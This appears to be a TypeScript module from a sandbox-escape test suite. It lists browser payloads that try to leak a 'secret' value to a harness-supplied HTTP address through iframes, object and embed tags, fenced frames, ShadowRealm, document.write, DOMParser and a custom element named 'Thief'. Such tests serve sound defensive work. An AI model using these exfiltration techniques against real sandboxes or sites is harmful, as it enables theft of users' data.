import type { Payload } from '../payload.ts';
import { aDocument, sameText, soon, type Script } from './sameText.ts';

/** A frame whose window has globals that nobody took away. */
const frame = (set: string, use: Script): Script => {
	return (at) =>
		`${aDocument}\nconst frame = doc.createElement('iframe'); ${set}\ndoc.body.append(frame); await ${soon};\n${use(at)}`;
};

const fetchIn: Script = ({ http }) =>
	`await frame.contentWindow.fetch('${http}?' + secret, { mode: 'no-cors' })`;

const fetching = ({ http }: { readonly http: string }) =>
	`"fetch('${http}?" + secret + "', { mode: 'no-cors' })"`;

/** Frames and other containers, for fresh globals or for the address that they load. */
export const frames: readonly Payload[] = [
	sameText('frame-blank', 'iframe about:blank', frame(`frame.src = 'about:blank';`, fetchIn)),
	sameText('frame-srcdoc', 'iframe srcdoc', (at) =>
		frame(`frame.srcdoc = '<script>' + ${fetching(at)} + '<' + '/script>';`, () => `await ${soon}`)(at)
	),
	sameText('frame-javascript', 'iframe javascript:', (at) =>
		frame(`frame.src = 'javascript:' + ${fetching(at)};`, () => `await ${soon}`)(at)
	),
	sameText('frame-data', 'iframe data:', (at) =>
		frame(
			`frame.src = 'data:text/html,' + encodeURIComponent('<script>' + ${fetching(at)} + '<' + '/script>');`,
			() => `await ${soon}`
		)(at)
	),
	sameText('frame-blob', 'iframe blob:', (at) =>
		frame(
			`frame.src = URL.createObjectURL(new Blob(['<script>' + ${fetching(at)} + '<' + '/script>'], { type: 'text/html' }));`,
			() => `await ${soon}`
		)(at)
	),
	sameText('frame-address', 'iframe src', ({ http }) =>
		frame(`frame.src = '${http}x.html?' + secret;`, () => `await ${soon}`)({ http } as never)
	),
	sameText(
		'object-address',
		'object',
		({ http }) =>
			`${aDocument}\nconst object = doc.createElement('object'); object.data = '${http}x.html?' + secret; doc.body.append(object); await ${soon}`
	),
	sameText(
		'embed-address',
		'embed',
		({ http }) =>
			`${aDocument}\nconst embed = doc.createElement('embed'); embed.src = '${http}x.html?' + secret; doc.body.append(embed); await ${soon}`
	),
	sameText(
		'fenced-frame',
		'fencedframe',
		({ http }) =>
			`${aDocument}\nfor (const name of ['fencedframe', 'portal']) { const fenced = doc.createElement(name);\nfenced.src = '${http}x.html?' + secret;\nfenced.config = globalThis.FencedFrameConfig && new FencedFrameConfig('${http}x.html?' + secret); doc.body.append(fenced); } await ${soon}`,
		{ control: { kind: 'none', why: 'no browser that we test shows one without being asked to' } }
	),
	sameText(
		'shadow-realm',
		'ShadowRealm',
		({ http }) => `await new ShadowRealm().importValue('${http}x.js?' + secret, 'x')`,
		{ control: { kind: 'none', why: 'no browser that we test has it' } }
	),
	sameText(
		'document-write',
		'document.write',
		({ http }) =>
			`${aDocument}\ndoc.open?.(); doc.write("<img src='${http}x.svg?" + secret + "'>"); await ${soon}`
	),
	sameText(
		'parsed-html',
		'DOMParser',
		({ http }) =>
			`${aDocument}\nconst parser = new (doc.defaultView?.DOMParser ?? DOMParser)();\nconst parsed = parser.parseFromString("<img src='${http}x.svg?" + secret + "'>", 'text/html');\ndoc.body.append(doc.adoptNode?.(parsed.querySelector('img')) ?? parsed.querySelector('img')); await ${soon}`
	),
	sameText(
		'custom-element',
		'customElements',
		({ http }) =>
			`${aDocument}\nconst view = doc.defaultView;\nclass Thief extends view.HTMLElement { connectedCallback() { view.fetch('${http}?' + secret, { mode: 'no-cors' }); } }\nview.customElements.define('x-thief', Thief); doc.body.innerHTML = '<x-thief></x-thief>'; await ${soon}`
	)
];
